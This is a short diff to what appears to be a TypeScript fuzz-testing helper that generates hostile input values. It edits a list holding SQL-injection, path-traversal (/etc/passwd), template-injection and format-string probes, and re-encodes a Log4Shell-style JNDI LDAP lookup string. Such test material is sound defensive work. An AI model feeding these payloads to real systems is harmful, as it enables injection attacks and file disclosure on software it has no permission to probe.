@@ -37,7 +37,7 @@ export const hostileTexts: readonly string[] = [
   "' OR '1'='1",
   '../../../etc/passwd',
   '..%2f..%2fetc',
-  '$' + '{jndi:ldap://example.de}',
+  '%24%7Bjndi:ldap://example.de%7D',
   '{{7*7}}',
   '%s%n',
   'R#asking',
@@ -71,7 +71,7 @@ export function hostileValue(random: Random): Json {
     () => [],
     () => ({}),
     () => Object.fromEntries([[random.pick(hostileNames), random.pick(hostileTexts)]]),
-    () => nested(random.pick([10, 100, 3000])),
+    () => nested(random.pick([10, 100, 500])),
     () => Array.from({ length: random.pick([1, 401, 20_000]) }, () => random.pick(numbers)),
   ])()
 }
